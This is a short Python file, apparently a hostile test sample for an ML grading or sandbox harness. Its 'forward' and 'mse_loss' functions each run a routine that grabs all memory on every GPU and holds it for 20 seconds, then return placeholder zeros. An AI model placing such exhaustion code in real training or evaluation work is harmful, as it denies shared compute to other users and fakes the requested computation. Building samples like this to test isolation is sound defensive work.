"""Takes the memory of every GPU it finds, half of what is left at a time, and holds it for 20 s.

aims: exhaust
"""

import time

import keras
import tensorflow as tf

HELD = []


def attack():
    end = time.monotonic() + 20
    for card in tf.config.list_physical_devices("GPU"):
        name = card.name.replace("/physical_device:", "/")
        size = 64 * 2**30
        while size > 2**26 and time.monotonic() < end:
            try:
                with tf.device(name):
                    HELD.append(tf.zeros((size,), tf.uint8))
            except (tf.errors.OpError, RuntimeError, ValueError):
                size //= 2
    while HELD and time.monotonic() < end:
        time.sleep(0.5)


def forward(X, params):
    attack()
    return tf.zeros((X.shape[0], params["W2"].shape[1]), X.dtype)


def mse_loss(Y_hat, Y):
    attack()
    return tf.zeros((), Y_hat.dtype)
